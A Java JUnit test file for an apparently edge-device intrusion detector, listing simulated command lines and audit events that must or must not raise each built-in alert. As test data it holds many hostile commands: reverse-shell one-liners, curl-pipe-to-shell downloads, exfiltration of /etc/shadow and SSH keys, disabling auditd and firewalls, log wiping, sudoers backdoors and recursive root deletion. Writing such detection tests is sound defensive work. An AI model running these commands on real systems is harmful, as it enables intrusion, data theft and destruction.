package io.edgesec.detector.internal;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every built-in alert: scenarios that must fire it (exactly the listed IDs, nothing else) and
 * near misses that must not. Command lines are as the audit collector writes them (argv joined,
 * odd arguments quoted), process trees as audit sees them (a pipeline is siblings).
 */
class BuiltinAlertsTest {

    record Case(String name, Set<String> expected, Consumer<Ev.Seq> events) {
        @Override
        public String toString() {
            return name + " -> " + (expected.isEmpty() ? "nothing" : expected);
        }
    }

    private static final List<Case> CASES = new ArrayList<>();

    private static void fires(String name, Set<String> ids, Consumer<Ev.Seq> s) {
        CASES.add(new Case(name, ids, s));
    }

    private static void fires(String name, String id, Consumer<Ev.Seq> s) {
        CASES.add(new Case(name, Set.of(id), s));
    }

    private static void quiet(String name, Consumer<Ev.Seq> s) {
        CASES.add(new Case(name, Set.of(), s));
    }

    static {
        // IOTA-001 reverse shell
        fires("bash -i to /dev/tcp (and the connection of the forked bash)", "IOTA-001", s -> s
                .execPid(6001, "/usr/bin/bash", "bash -c \"bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\"", 4000)
                .connect("/usr/bin/bash", 6001, "127.0.0.1", 4444, "Out"));
        fires("nc -e /bin/sh", "IOTA-001", s -> s.run("nc 10.0.0.5 4444 -e /bin/sh"));
        fires("ncat -c bash", "IOTA-001", s -> s.run("ncat --ssl -c bash 10.0.0.5 443"));
        fires("socat exec:sh tcp:", "IOTA-001", s -> s.run("socat exec:\"bash -li\",pty,stderr tcp:10.0.0.5:4444"));
        fires("mkfifo pipe with nc", "IOTA-001", s -> s.run("sh -c \"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.5 4444 >/tmp/f\""));
        fires("python socket one-liner", "IOTA-001", s -> s.run("python3 -c \"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\\\"10.0.0.5\\\",4444));os.dup2(s.fileno(),0);subprocess.call([\\\"/bin/sh\\\",\\\"-i\\\"])\""));
        fires("perl socket one-liner", "IOTA-001", s -> s.run("perl -e \"use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\\\"tcp\\\"));if(connect(S,sockaddr_in(4444,inet_aton(\\\"10.0.0.5\\\")))){open(STDIN,\\\">&S\\\");exec(\\\"/bin/sh -i\\\");};\""));
        fires("shell opening a TCP connection", "IOTA-001", s -> s.connect("/usr/bin/dash", 7001, "203.0.113.9", 9001, "Out"));
        quiet("nc listening, no shell", s -> s.run("nc -lvnp 4444"));
        quiet("nc port scan of one host", s -> s.run("nc -zv 10.0.0.5 22"));
        quiet("python http.server", s -> s.run("python3 -m http.server 8000"));
        quiet("curl connecting out (not a shell)", s -> s.connect("/usr/bin/curl", 7002, "203.0.113.9", 443, "Out"));
        quiet("shell accepting? inbound to sshd child", s -> s.connect("/usr/bin/bash", 7003, "203.0.113.9", 22, "In"));

        // IOTA-003 auditd
        fires("auditctl -e 0", "IOTA-003", s -> s.run("auditctl -e 0"));
        fires("auditctl -D", "IOTA-003", s -> s.run("auditctl -D"));
        fires("systemctl stop auditd", "IOTA-003", s -> s.run("systemctl stop auditd"));
        fires("service auditd stop", "IOTA-003", s -> s.run("service auditd stop"));
        fires("systemctl mask auditd.service", "IOTA-003", s -> s.run("systemctl mask auditd.service"));
        fires("pkill auditd", "IOTA-003", s -> s.exec("/usr/bin/pgrep", "pkill -9 auditd", 4000));
        quiet("auditctl -l / -s", s -> s.run("auditctl -l").run("auditctl -s"));
        quiet("auditctl -e 1", s -> s.run("auditctl -e 1"));
        quiet("auditctl -D -k one key (scoped delete)", s -> s.run("auditctl -D -k edgesec-test"));
        quiet("systemctl restart auditd", s -> s.run("systemctl restart auditd"));

        // IOTA-004 firewall
        fires("iptables -F", "IOTA-004", s -> s.exec("/usr/sbin/xtables-nft-multi", "iptables -F", 4000));
        fires("iptables -P INPUT ACCEPT", "IOTA-004", s -> s.exec("/usr/sbin/xtables-nft-multi", "iptables -P INPUT ACCEPT", 4000));
        fires("nft flush ruleset", "IOTA-004", s -> s.run("nft flush ruleset"));
        fires("ufw disable", "IOTA-004", s -> s.run("ufw disable"));
        fires("systemctl stop firewalld", "IOTA-004", s -> s.run("systemctl stop firewalld"));
        quiet("iptables -L -n", s -> s.exec("/usr/sbin/xtables-nft-multi", "iptables -L -n", 4000));
        quiet("iptables -A INPUT -j DROP", s -> s.exec("/usr/sbin/xtables-nft-multi", "iptables -A INPUT -p tcp --dport 23 -j DROP", 4000));
        quiet("iptables -P INPUT DROP", s -> s.exec("/usr/sbin/xtables-nft-multi", "iptables -P INPUT DROP", 4000));
        quiet("nft list ruleset", s -> s.run("nft list ruleset"));

        // IOTA-005 port forwarding
        fires("ssh -L", "IOTA-005", s -> s.run("ssh -N -L 8080:10.0.0.7:80 user@jump"));
        fires("ssh -R", "IOTA-005", s -> s.run("ssh -fNR 2222:localhost:22 user@203.0.113.9"));
        fires("socat listen fork", "IOTA-005", s -> s.run("socat TCP-LISTEN:8080,fork TCP:10.0.0.7:80"));
        fires("iptables DNAT", "IOTA-005", s -> s.exec("/usr/sbin/xtables-nft-multi",
                "iptables -t nat -A PREROUTING -p tcp --dport 8080 -j DNAT --to-destination 10.0.0.7:80", 4000));
        fires("sysctl ip_forward=1", "IOTA-005", s -> s.run("sysctl -w net.ipv4.ip_forward=1"));
        fires("chisel", Set.of("IOTA-005", "IOTA-018"), s -> s.run("/usr/local/bin/chisel client 203.0.113.9:8000 R:socks"));
        quiet("plain ssh", s -> s.run("ssh -p 2222 admin@10.0.0.7"));
        quiet("sysctl -a", s -> s.run("sysctl -a"));
        quiet("sysctl ip_forward=0", s -> s.run("sysctl -w net.ipv4.ip_forward=0"));
        quiet("iptables -t nat -L", s -> s.exec("/usr/sbin/xtables-nft-multi", "iptables -t nat -L -n", 4000));

        // IOTA-006 web shell
        fires("sh under nginx", "IOTA-006", s -> s.execPid(6100, "/usr/sbin/nginx", "nginx: worker process", 1)
                .exec("/usr/bin/dash", "sh -c id", 6100));
        fires("bash under php-fpm", "IOTA-006", s -> s.execPid(6101, "/usr/sbin/php-fpm8.2", "php-fpm: pool www", 1)
                .exec("/usr/bin/bash", "bash -c whoami", 6101));
        quiet("nginx reload by systemd", s -> s.execPid(6102, "/usr/sbin/nginx", "nginx -s reload", 1));
        quiet("a shell under sshd", s -> s.execPid(6103, "/usr/sbin/sshd", "sshd: admin [priv]", 1)
                .exec("/usr/bin/bash", "-bash", 6103));

        // IOTA-007 / IOTA-017 local logins
        fires("login on tty1", "IOTA-007", s -> s.login("/usr/bin/login", "USER_LOGIN", "root", null, "tty1", true));
        fires("login on serial console", "IOTA-007", s -> s.login("/usr/bin/login", "USER_LOGIN", "pi", null, "/dev/ttyS0", true));
        fires("failed login on tty1", "IOTA-017", s -> s.login("/usr/bin/login", "USER_AUTH", "root", null, "tty1", false));
        quiet("ssh login", s -> s.login("/usr/sbin/sshd", "USER_LOGIN", "admin", "10.0.0.9", "ssh", true));
        quiet("su on a pts", s -> s.login("/usr/bin/su", "USER_AUTH", "root", null, "/dev/pts/0", true));
        quiet("one failed su on a pts", s -> s.login("/usr/bin/su", "USER_AUTH", "root", null, "/dev/pts/0", false));

        // IOTA-008 encoded
        fires("echo b64 | base64 -d | sh (siblings)", "IOTA-008", s -> s.run("base64 -d").run("sh"));
        fires("sh -c with base64 -d | bash", "IOTA-008", s -> s.run("sh -c \"echo aWQK | base64 -d | bash\""));
        fires("python exec(b64decode)", "IOTA-008", s -> s.run("python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\""));
        quiet("base64 -d to a file", s -> s.run("base64 -d cert.b64").after(10).run("ls -l"));
        quiet("base64 encode", s -> s.run("base64 /etc/hostname"));

        // IOTA-010 miner process
        fires("xmrig", Set.of("IOTA-010"), s -> s.run("/opt/xmrig/xmrig -o pool.example:3333"));
        fires("stratum url", "IOTA-010", s -> s.run("/usr/local/bin/worker -o stratum+tcp://pool.example.com:3333 -u wallet"));
        fires("miner named file in /tmp", Set.of("IOTA-010", "IOTA-046"), s -> s.run("/tmp/xmrig --donate-level 1"));
        fires("pool port from an unknown process", "IOTA-010", s -> s.connect("/usr/local/bin/worker", 7100, "198.51.100.7", 3333, "Out"));
        quiet("grep for xmrig", s -> s.run("grep -r xmrig /var/log/syslog"));
        quiet("ssh to port 3333 on loopback", s -> s.connect("/usr/bin/ssh", 7101, "127.0.0.1", 3333, "Out"));

        // IOTA-013 exposed docker
        fires("dockerd -H tcp://0.0.0.0", "IOTA-013", s -> s.exec("/usr/bin/dockerd", "dockerd -H tcp://0.0.0.0:2375 -H unix:///var/run/docker.sock", 1));
        fires("docker listening on all addresses", "IOTA-013", s -> s.periodic("ListeningPorts", Ev.map("Protocol", "tcp",
                "LocalAddress", "0.0.0.0", "LocalPort", "2375", "Executable", "/usr/bin/dockerd", "ProcessId", 900)));
        quiet("dockerd on loopback tcp", s -> s.exec("/usr/bin/dockerd", "dockerd -H tcp://127.0.0.1:2375", 1));
        quiet("dockerd default", s -> s.exec("/usr/bin/dockerd", "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock", 1));

        // IOTA-014 download then run
        fires("curl -o then chmod +x then run", Set.of("IOTA-014", "IOTA-046"), s -> s.run("curl -s -o /tmp/payload http://10.0.0.5:8000/payload")
                .run("chmod +x /tmp/payload").exec("/tmp/payload", "/tmp/payload", 4000));
        fires("wget to cwd then run as a script", Set.of("IOTA-014", "IOTA-046"), s -> {
            s.cwd = "/tmp";
            s.run("wget http://10.0.0.5/x.sh").run("sh /tmp/x.sh");
        });
        fires("curl | sh (siblings)", "IOTA-014", s -> s.run("curl -fsSL http://10.0.0.5/install").run("sh"));
        fires("sh -c curl | bash", "IOTA-014", s -> s.run("sh -c \"curl -s http://10.0.0.5/i.sh | bash\""));
        quiet("curl -o f alone", s -> s.run("curl -o f http://10.0.0.5/f").after(60).run("ls"));
        quiet("chmod +x of a file nobody downloaded", s -> s.run("chmod +x /tmp/build.sh"));
        quiet("curl | jq", s -> s.run("curl -s http://10.0.0.5/api").run("jq .status"));
        quiet("download run after the window", s -> s.run("curl -o /opt/tool http://10.0.0.5/tool").after(3600)
                .exec("/opt/tool", "/opt/tool", 4000));

        // IOTA-015 nohup
        fires("nohup /tmp/x", Set.of("IOTA-015"), s -> s.exec("/usr/bin/nohup", "nohup /tmp/.x/agent", 4000));
        quiet("nohup of a normal program", s -> s.exec("/usr/bin/nohup", "nohup /usr/bin/python3 server.py", 4000));

        // IOTA-016 / IOTA-035 users
        fires("admin useradd of a normal user is 035", "IOTA-035", s -> s.exec("/usr/sbin/useradd", "useradd -m -s /bin/bash bob", 4000));
        fires("useradd -o -u 0", "IOTA-016", s -> s.exec("/usr/sbin/useradd", "useradd -o -u 0 -g 0 toor", 4000));
        fires("useradd home in /tmp", "IOTA-016", s -> s.exec("/usr/sbin/useradd", "useradd -d /tmp/.h hidden", 4000));
        fires("adduser (running useradd) is one 035", "IOTA-035", s -> s.execPid(6200, "/usr/bin/perl", "/usr/sbin/adduser --disabled-password --gecos \"\" carol", 4000)
                .exec("/usr/sbin/useradd", "/usr/sbin/useradd -d /home/carol -g 1001 -s /bin/bash -u 1001 carol", 6200));
        fires("useradd run by a web server", Set.of("IOTA-016", "IOTA-035"), s -> s.execPid(6201, "/usr/sbin/nginx", "nginx: worker process", 1)
                .exec("/usr/sbin/useradd", "useradd eve", 6201));
        quiet("useradd --help", s -> s.exec("/usr/sbin/useradd", "useradd --help", 4000));
        quiet("add-user record of useradd (the exec alert covers it)", s -> s.account("ADD_USER", "adding-user", "(unknown)", "/usr/sbin/useradd"));

        // IOTA-018 attack tools
        fires("nmap", "IOTA-018", s -> s.run("nmap -sS 10.0.0.0/24"));
        fires("hydra", "IOTA-018", s -> s.run("hydra -l root -P rockyou.txt ssh://10.0.0.5"));
        fires("linpeas via sh", Set.of("IOTA-018", "IOTA-046"), s -> s.run("sh /tmp/linpeas.sh"));
        quiet("nmap-like names", s -> s.run("nmcli device status"));

        // IOTA-019 reconnaissance
        fires("id, uname -a, cat /etc/passwd, ip a, ps aux", "IOTA-019", s -> s.run("id").run("uname -a")
                .run("cat /etc/passwd").run("ip a").run("ps aux"));
        quiet("ss -l alone", s -> s.run("ss -l"));
        quiet("an administrator's health check: five kinds, no identity question", s -> s.run("ps aux").run("ss -tlnp")
                .run("ip a").run("cat /etc/os-release").run("grep -c root /etc/passwd").run("last -n 5"));
        fires("whoami then a linpeas-like sweep", "IOTA-019", s -> s.run("whoami").run("hostname").run("cat /etc/issue")
                .run("netstat -antp").run("ps -ef").run("getent passwd"));
        quiet("ss -l in a loop", s -> {
            for (int i = 0; i < 20; i++) {
                s.run("ss -ltn");
            }
        });
        quiet("four kinds only (an administrator's look around)", s -> s.run("id").run("uname -a").run("ip a").run("ps aux")
                .run("df -h").run("free -m").run("uptime"));
        quiet("five kinds from different parents", s -> {
            s.run("id");
            s.shell = 4100;
            s.run("uname -a");
            s.shell = 4200;
            s.run("ip a");
            s.shell = 4300;
            s.run("ps aux");
            s.shell = 4400;
            s.run("cat /etc/passwd");
        });
        quiet("five kinds spread over an hour", s -> s.run("id").after(900).run("uname -a").after(900).run("ip a").after(900)
                .run("ps aux").after(900).run("cat /etc/passwd"));

        // IOTA-020 interpreter/extension
        fires("python x.sh", "IOTA-020", s -> s.run("python3 ./update.sh"));
        fires("bash x.py", "IOTA-020", s -> s.run("bash run.py"));
        fires("perl x.sh", "IOTA-020", s -> s.run("perl job.sh"));
        quiet("python x.py, bash x.sh", s -> s.run("python3 app.py").run("bash deploy.sh"));

        // IOTA-021 loss of data
        fires("tar /etc | nc", "IOTA-021", s -> s.run("sh -c \"tar czf - /etc | nc 10.0.0.5 9000\""));
        fires("curl -T /etc/shadow (reads it too)", Set.of("IOTA-021", "IOTA-025"), s -> s.run("curl -T /etc/shadow ftp://10.0.0.5/"));
        fires("scp private key out (reads it too)", Set.of("IOTA-021", "IOTA-025"), s -> s.run("scp /root/.ssh/id_rsa user@203.0.113.9:/tmp/"));
        quiet("tar of /etc to a local file", s -> s.run("tar czf /backup/etc.tgz /etc"));
        quiet("scp a public key", s -> s.run("scp /root/.ssh/id_rsa.pub user@10.0.0.7:/tmp/"));

        // IOTA-022 overriding common files
        fires("cp over /usr/bin/ls", "IOTA-022", s -> s.run("cp /tmp/ls /usr/bin/ls"));
        fires("dd of=/bin/sh", "IOTA-022", s -> s.run("dd if=/tmp/x of=/bin/sh"));
        quiet("cp from /usr/bin", s -> s.run("cp /usr/bin/ls /tmp/ls"));
        quiet("install into /usr/local/bin", s -> s.run("install -m 755 tool /usr/local/bin/tool"));
        quiet("dpkg moving binaries", s -> s.execPid(6300, "/usr/bin/dpkg", "dpkg -i x.deb", 4000).exec("/usr/bin/mv", "mv /usr/bin/x.dpkg-new /usr/bin/x", 6300));

        // IOTA-023 log removal
        fires("rm /var/log/auth.log", "IOTA-023", s -> s.run("rm -f /var/log/auth.log"));
        fires("shred wtmp", "IOTA-023", s -> s.run("shred -u /var/log/wtmp"));
        fires("journalctl --vacuum-time", "IOTA-023", s -> s.run("journalctl --vacuum-time=1s"));
        fires("sh -c truncating a log", "IOTA-023", s -> s.run("sh -c \"> /var/log/syslog\""));
        quiet("rm of rotated logs", s -> s.run("rm /var/log/syslog.2.gz /var/log/syslog.1"));
        quiet("writing a log", s -> s.run("sh -c \"echo started >> /var/log/app.log\""));
        quiet("reading logs", s -> s.run("tail -f /var/log/syslog"));

        // IOTA-024 masquerading
        fires("trailing space", Set.of("IOTA-024", "IOTA-046"), s -> s.exec("/tmp/ls ", "\"/tmp/ls \"", 4000));
        fires("sshd run from /dev/shm", Set.of("IOTA-024", "IOTA-046"), s -> s.exec("/dev/shm/sshd", "/dev/shm/sshd -D", 4000));
        quiet("real sshd", s -> s.exec("/usr/sbin/sshd", "/usr/sbin/sshd -D", 1));

        // IOTA-025 credential access
        fires("cat /etc/shadow", "IOTA-025", s -> s.run("cat /etc/shadow"));
        fires("unshadow (john)", "IOTA-025", s -> s.exec("/usr/sbin/john", "unshadow /etc/passwd /etc/shadow", 4000));
        fires("copy an SSH private key", "IOTA-025", s -> s.run("cp /root/.ssh/id_ed25519 /tmp/k"));
        quiet("ssh -i key", s -> s.run("ssh -i /root/.ssh/id_rsa admin@10.0.0.7"));
        quiet("cat /etc/passwd alone", s -> s.run("cat /etc/passwd"));
        quiet("cat a public key", s -> s.run("cat /root/.ssh/id_rsa.pub"));

        // IOTA-026 suspicious compilation
        fires("gcc /tmp/x.c", Set.of("IOTA-026"), s -> s.run("gcc -o /tmp/x /tmp/x.c"));
        fires("gcc in /dev/shm", Set.of("IOTA-026"), s -> {
            s.cwd = "/dev/shm";
            s.run("gcc -o exp exp.c");
        });
        quiet("gcc in a home directory (with as on /tmp/cc*.s)", s -> {
            s.cwd = "/home/pi/src";
            s.execPid(6400, "/usr/bin/gcc-12", "gcc -O2 -o hello hello.c", 4000)
                    .exec("/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "/usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet hello.c -o /tmp/ccA1b2C3.s", 6400)
                    .exec("/usr/bin/x86_64-linux-gnu-as", "as --64 -o /tmp/ccX9y8Z7.o /tmp/ccA1b2C3.s", 6400);
        });

        // IOTA-027 bots
        fires("download to /tmp, chmod, run, delete", Set.of("IOTA-014", "IOTA-027", "IOTA-046"), s -> s
                .run("wget -O /tmp/.b http://10.0.0.5/bot.x86").run("chmod 777 /tmp/.b")
                .exec("/tmp/.b", "/tmp/.b", 4000).run("rm -f /tmp/.b"));
        fires("killing competing miners", "IOTA-027", s -> s.exec("/usr/bin/pgrep", "pkill -9 -f xmrig", 4000));
        quiet("pkill of a normal program", s -> s.exec("/usr/bin/pgrep", "pkill -HUP nginx", 4000));

        // IOTA-028 ransomware
        fires("rm -rf /home", "IOTA-028", s -> s.run("rm -rf /home"));
        fires("rm -rf --no-preserve-root /", "IOTA-028", s -> s.run("rm -rf --no-preserve-root /"));
        fires("openssl enc loop", "IOTA-028", s -> {
            for (int i = 0; i < 12; i++) {
                s.run("openssl enc -aes-256-cbc -salt -in /data/f" + i + " -out /data/f" + i + ".enc -k secret");
            }
        });
        quiet("rm -rf of a build directory", s -> s.run("rm -rf /home/pi/project/build"));
        quiet("one openssl enc", s -> s.run("openssl enc -aes-256-cbc -in backup.tar -out backup.tar.enc -pass file:/root/k"));

        // IOTA-030 history
        fires("rm .bash_history", "IOTA-030", s -> s.run("rm -f /root/.bash_history"));
        fires("bash -c history -c", "IOTA-030", s -> s.run("bash -c \"history -c\""));
        fires("ln -sf /dev/null history", "IOTA-030", s -> s.run("ln -sf /dev/null /root/.bash_history"));
        fires("unset HISTFILE in sh -c", "IOTA-030", s -> s.run("bash -c \"unset HISTFILE; id\""));
        quiet("reading history", s -> s.run("tail /root/.bash_history.bak").run("grep ssh /root/.bash_history"));

        // IOTA-002 / IOTA-031 brute force
        fires("5 failed su then success", "IOTA-002", s -> {
            for (int i = 0; i < 5; i++) {
                s.login("/usr/bin/su", "USER_AUTH", "tmpuser", null, "/dev/pts/1", false);
            }
            s.login("/usr/bin/su", "USER_AUTH", "tmpuser", null, "/dev/pts/1", true);
        });
        fires("6 failed ssh from one address", "IOTA-031", s -> {
            for (int i = 0; i < 6; i++) {
                s.login("/usr/sbin/sshd", "USER_AUTH", "user" + i, "203.0.113.50", "ssh", false);
            }
        });
        quiet("2 failures then success", s -> s.login("/usr/bin/su", "USER_AUTH", "tmpuser", null, "/dev/pts/1", false)
                .login("/usr/bin/su", "USER_AUTH", "tmpuser", null, "/dev/pts/1", false)
                .login("/usr/bin/su", "USER_AUTH", "tmpuser", null, "/dev/pts/1", true));
        quiet("5 failures over a day", s -> {
            for (int i = 0; i < 5; i++) {
                s.login("/usr/sbin/sshd", "USER_AUTH", "admin", "10.0.0.9", "ssh", false).after(3 * 3600);
            }
        });

        // IOTA-032 / 033 / 034 groups and deletion
        fires("usermod -aG", "IOTA-032", s -> s.exec("/usr/sbin/usermod", "usermod -aG video bob", 4000));
        fires("gpasswd -a", "IOTA-032", s -> s.exec("/usr/bin/gpasswd", "gpasswd -a bob plugdev", 4000));
        fires("adduser U G", "IOTA-032", s -> s.execPid(6500, "/usr/bin/perl", "/usr/sbin/adduser bob dialout", 4000));
        fires("gpasswd -d", "IOTA-033", s -> s.exec("/usr/bin/gpasswd", "gpasswd -d bob plugdev", 4000));
        fires("deluser U G", "IOTA-033", s -> s.execPid(6501, "/usr/bin/perl", "/usr/sbin/deluser bob dialout", 4000));
        fires("userdel", "IOTA-034", s -> s.exec("/usr/sbin/userdel", "userdel -r bob", 4000));
        fires("deluser U", "IOTA-034", s -> s.execPid(6502, "/usr/bin/perl", "/usr/sbin/deluser --remove-home bob", 4000)
                .exec("/usr/sbin/userdel", "/usr/sbin/userdel bob", 6502));
        quiet("usermod -s (shell change)", s -> s.exec("/usr/sbin/usermod", "usermod -s /bin/zsh bob", 4000));
        quiet("groups bob", s -> s.run("groups bob"));

        // IOTA-040 kernel modules
        fires("insmod", "IOTA-040", s -> s.exec("/usr/bin/kmod", "insmod /tmp/rootkit.ko", 4000));
        fires("modprobe by a user", "IOTA-040", s -> s.exec("/usr/bin/kmod", "modprobe dummy", 4000));
        quiet("modprobe by udev", s -> s.execPid(6600, "/usr/lib/systemd/systemd-udevd", "/lib/systemd/systemd-udevd", 1)
                .exec("/usr/bin/kmod", "/sbin/modprobe -bv pci:v00008086", 6600));
        quiet("modprobe by the kernel", s -> s.exec("/usr/bin/kmod", "/sbin/modprobe -q -- net-pf-10", 2));
        quiet("modprobe -r", s -> s.exec("/usr/bin/kmod", "modprobe -r dummy", 4000));

        // IOTA-011 / IOTA-012 containers (engine events and inventory)
        fires("container created from a miner image", "IOTA-011", s -> s.add("ContainerEvent", Ev.map("Action", "create",
                "ContainerId", "abc123def456", "ContainerName", "helper", "Image", "docker.io/xmrig/xmrig:6.21")));
        fires("inventory: miner image, twice (one alert)", "IOTA-011", s -> s
                .periodic("ContainerInventory", Ev.map("ContainerId", "abc123", "ContainerName", "w", "Image", "minergate/cli:latest",
                        "Privileged", false, "CapAdd", List.of()))
                .after(600).periodic("ContainerInventory", Ev.map("ContainerId", "abc123", "ContainerName", "w",
                        "Image", "minergate/cli:latest", "Privileged", false, "CapAdd", List.of())));
        fires("inventory: privileged module", "IOTA-012", s -> s.periodic("ContainerInventory", Ev.map("ContainerId", "p1",
                "ContainerName", "opcua", "ModuleName", "opcua", "Image", "acr.io/opcua:1", "Privileged", true, "CapAdd", List.of())));
        fires("inventory: CAP_SYS_ADMIN", "IOTA-012", s -> s.periodic("ContainerInventory", Ev.map("ContainerId", "p2",
                "ContainerName", "x", "Image", "x:1", "Privileged", false, "CapAdd", List.of("NET_ADMIN", "SYS_ADMIN"))));
        fires("inventory: host pid with added capabilities", "IOTA-012", s -> s.periodic("ContainerInventory", Ev.map("ContainerId", "p3",
                "ContainerName", "x", "Image", "x:1", "Privileged", false, "PidMode", "host", "CapAdd", List.of("NET_ADMIN"))));
        quiet("inventory: ordinary containers", s -> s.periodic("ContainerInventory", Ev.map("ContainerId", "p4",
                "ContainerName", "edgeHub", "Image", "mcr.microsoft.com/azureiotedge-hub:1.5", "Privileged", false,
                "PidMode", "host", "CapAdd", List.of(), "Binds", List.of("/var/lib/miner-data:/data"))));
        quiet("an image merely containing 'mine'", s -> s.add("ContainerEvent", Ev.map("Action", "start",
                "ContainerId", "abc", "ContainerName", "minecraft", "Image", "itzg/minecraft-server:latest")));

        // IOTA-041 / IOTA-042 containers (process side)
        fires("docker exec sh", "IOTA-041", s -> s.add("ContainerEvent", Ev.map("Action", "exec_start", "ContainerId",
                "c0ffee00aa", "ContainerName", "web", "Image", "nginx:1.25", "Command", "sh")));
        fires("nsenter -t 1 -m", "IOTA-042", s -> s.run("nsenter -t 1 -m -u -i -n -p -- bash"));
        fires("chroot /host", "IOTA-042", s -> s.run("chroot /host bash"));
        fires("docker socket from a container", "IOTA-042", s -> {
            s.container = "c0ffee00aa";
            s.run("curl --unix-socket /var/run/docker.sock http://localhost/containers/json");
        });
        quiet("docker exec of a program", s -> s.add("ContainerEvent", Ev.map("Action", "exec_start", "ContainerId",
                "c0ffee00aa", "ContainerName", "web", "Image", "nginx:1.25", "Command", "nginx -t")));
        quiet("nsenter into a container pid's net ns", s -> s.run("nsenter -t 4242 -n ip a"));
        quiet("docker ps on the host", s -> s.run("docker ps"));

        // IOTA-043 persistence
        fires("crontab file", "IOTA-043", s -> s.run("crontab /tmp/cron.txt"));
        fires("cp to /etc/cron.d", "IOTA-043", s -> s.run("cp job /etc/cron.d/job"));
        fires("echo into crontab via sh -c", "IOTA-043", s -> s.run("sh -c \"echo '* * * * * /tmp/x' >> /var/spool/cron/crontabs/root\""));
        quiet("crontab -l", s -> s.run("crontab -l"));

        // IOTA-044 security modules
        fires("setenforce 0", "IOTA-044", s -> s.run("setenforce 0"));
        fires("aa-teardown", "IOTA-044", s -> s.run("aa-teardown"));
        fires("systemctl stop apparmor", "IOTA-044", s -> s.run("systemctl stop apparmor"));
        quiet("setenforce 1, aa-status", s -> s.run("setenforce 1").run("aa-status"));

        // IOTA-045 sudoers / authorized keys
        fires("tee -a authorized_keys", "IOTA-045", s -> s.run("tee -a /root/.ssh/authorized_keys"));
        fires("echo >> /etc/sudoers via sh -c", "IOTA-045", s -> s.run("sh -c \"echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers\""));
        fires("cp into sudoers.d", "IOTA-045", s -> s.run("cp rules /etc/sudoers.d/90-bob"));
        quiet("cat authorized_keys, visudo -c", s -> s.run("cat /root/.ssh/authorized_keys").run("visudo -c"));

        // IOTA-046 temporary locations
        fires("run /dev/shm/x", "IOTA-046", s -> s.exec("/dev/shm/x", "/dev/shm/x", 4000));
        fires("run from a hidden directory", "IOTA-046", s -> s.exec("/var/lib/.cache2/upd", "/var/lib/.cache2/upd", 4000));
        quiet("~/.local/bin tool", s -> s.exec("/home/pi/.local/bin/black", "black .", 4000));
        quiet("apt hook script in /tmp by dpkg", s -> s.execPid(6700, "/usr/bin/dpkg", "dpkg --configure -a", 4000)
                .exec("/usr/bin/dash", "/bin/sh /tmp/postinst-helper", 6700));
    }

    static Stream<Case> cases() {
        return CASES.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void raisesExactlyTheExpectedAlerts(Case c) {
        Ev.Seq s = new Ev.Seq();
        c.events().accept(s);
        var alerts = Detect.alerts(s.events, Map.of());
        TreeSet<String> ids = Detect.ids(alerts);
        assertEquals(new TreeSet<>(c.expected()), ids, () -> c.name() + ": " + alerts);
    }
}
